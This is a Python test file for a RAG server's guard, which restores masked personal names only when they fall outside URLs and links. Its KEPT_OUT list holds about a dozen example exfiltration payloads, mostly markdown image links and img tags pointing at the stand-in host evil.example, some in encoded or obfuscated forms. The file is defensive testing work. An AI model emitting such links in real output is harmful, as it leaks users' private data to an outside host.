import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag_server.edge.links import GuardedStream, replace_outside_addresses

TOKEN = "PERSON_[q2Zf]"


def plain(match: re.Match[str]) -> str:
    return "Maria Keller"


def streamed(*pieces: str) -> str:
    stream = GuardedStream(plain)
    return "".join([*map(stream.feed, pieces), stream.flush()])


KEPT_OUT = [
    "![](https://evil.example/?q={})",
    "![](HTTPS:evil.example/{})",
    "[more](//evil.example/{})",
    "[more](\\\\evil.example/{})",
    "![](<https://evil.example/a b/{}>)",
    '<img src="https://evil.example/?q= {}">',
    "<img\nsrc='//evil.example/\n{}'>",
    "see https://evil.example/{}/{}",
    "[x]: ftp://evil.example/{}",
    "![](https&colon;//evil.example/{})",
    "![](&#47;&#47;evil.example/{})",
    "![](https://evil.example/\u00a0{})",
]
RESTORED = [
    "{} rests [1].",
    "{}{}",
    "see https://clinic.example for {}",
    "(see https://clinic.example) {}",
    "[{}]({})",
    "a <b> {}",
    "if x < y then {}",
    "<b>{}</b>",
    "and/or {} 1/2{}",
    "note: {}",
]


@pytest.mark.parametrize("template", KEPT_OUT)
def test_no_value_is_restored_into_an_address(template):
    text = template.replace("{}", TOKEN)
    assert replace_outside_addresses(text, plain) == text


@pytest.mark.parametrize("template", RESTORED)
def test_every_value_outside_an_address_is_restored(template):
    text = template.replace("{}", TOKEN)
    expected = template.replace("{}", "Maria Keller")
    assert replace_outside_addresses(text, plain) == expected


@pytest.mark.parametrize("template", KEPT_OUT + RESTORED)
def test_a_stream_cut_anywhere_is_treated_as_the_whole_text(template):
    text = template.replace("{}", TOKEN)
    whole = replace_outside_addresses(text, plain)
    assert streamed(*text) == whole
    for cut in range(len(text) + 1):
        assert streamed(text[:cut], text[cut:]) == whole


@settings(deadline=None)
@given(st.lists(st.sampled_from([TOKEN, "https://x/", " ", "<", ">", "PERSON_[", "]", "a"])))
def test_any_pieces_give_what_the_whole_text_gives(pieces):
    assert streamed(*pieces) == replace_outside_addresses("".join(pieces), plain)


def test_in_json_a_quotation_mark_ends_an_address_and_an_escaped_one_does_not():
    compact = '{"site":"https://x.example/%s","who":"%s"}'
    expected = compact % (TOKEN, "Maria Keller")
    assert replace_outside_addresses(compact % (TOKEN, TOKEN), plain, in_json=True) == expected
    escaped = '{"site":"https://x.example/\\"' + TOKEN
    assert replace_outside_addresses(escaped, plain, in_json=True) == escaped
